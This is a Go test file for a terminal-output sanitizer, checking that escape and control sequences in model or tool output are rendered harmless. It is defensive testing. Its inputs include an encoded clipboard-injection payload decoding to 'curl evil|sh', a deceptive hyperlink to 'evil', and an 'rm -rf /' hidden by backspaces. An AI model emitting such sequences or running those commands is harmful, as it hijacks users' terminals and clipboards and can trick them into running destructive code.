package termsafe

import (
	"bytes"
	"strings"
	"testing"
)

// The escape-sequence corpus: what a fetched page or a file can carry to
// reach a terminal through the model's answer or a tool's quoted output.
func TestTextNeutralisesControlSequences(t *testing.T) {
	for _, tt := range []struct{ name, in, want string }{
		{"plain", "hello\n\tworld é 🎉", "hello\n\tworld é 🎉"},
		{"CSI colour", "\x1b[31mred\x1b[0m", "␛[31mred␛[0m"},
		{"clear screen", "\x1b[2J\x1b[H", "␛[2J␛[H"},
		{"cursor up and erase line", "ok\x1b[1A\x1b[2K", "ok␛[1A␛[2K"},
		{"OSC title BEL", "\x1b]0;pwned\x07", "␛]0;pwned␇"},
		{"OSC 52 clipboard ST", "\x1b]52;c;Y3VybCBldmlsfHNo\x1b\\", "␛]52;c;Y3VybCBldmlsfHNo␛\\"},
		{"OSC 8 hyperlink", "\x1b]8;;http://evil\x1b\\click\x1b]8;;\x1b\\", "␛]8;;http://evil␛\\click␛]8;;␛\\"},
		{"DCS", "\x1bP+q\x1b\\", "␛P+q␛\\"},
		{"8-bit CSI (C1)", "\u009b31m", "⟨U+009B⟩31m"},
		{"8-bit OSC (C1)", "\u009d0;t\u009c", "⟨U+009D⟩0;t⟨U+009C⟩"},
		{"raw 0x9b byte", "a\x9b31m", "a\uFFFD31m"},
		{"bell", "ding\a", "ding␇"},
		{"backspace overwrite", "rm -rf /\b\b\b\bls", "rm -rf /␈␈␈␈ls"},
		{"lone carriage return", "safe\rEVIL", "safe␍EVIL"},
		{"CRLF kept", "a\r\nb", "a\r\nb"},
		{"NUL and DEL", "a\x00b\x7f", "a␀b␡"},
		{"vertical tab form feed", "\v\f", "␋␌"},
	} {
		if got := Text(tt.in); got != tt.want {
			t.Errorf("%s: Text(%q) = %q, want %q", tt.name, tt.in, got, tt.want)
		}
		if i := strings.IndexFunc(Text(tt.in), func(r rune) bool {
			return r < 0x20 && r != '\n' && r != '\t' && r != '\r' || r >= 0x7f && r <= 0x9f
		}); i >= 0 {
			t.Errorf("%s: a control survived at %d", tt.name, i)
		}
	}
}

func TestSplitSequenceAcrossChunks(t *testing.T) {
	var out bytes.Buffer
	w := Writer{W: &out}
	for _, chunk := range []string{"title: \x1b", "]0;pwn", "ed\x07 done"} {
		if _, err := w.Write([]byte(chunk)); err != nil {
			t.Fatal(err)
		}
	}
	if out.String() != "title: ␛]0;pwned␇ done" {
		t.Fatalf("%q", out.String())
	}
}

func TestCleanTextIsNotCopied(t *testing.T) {
	s := "plain text, ünïcödé\n"
	if Text(s) != s {
		t.Fatal("changed clean text")
	}
	if n := testing.AllocsPerRun(10, func() { Text(s) }); n != 0 {
		t.Fatalf("%v allocations for clean text", n)
	}
}
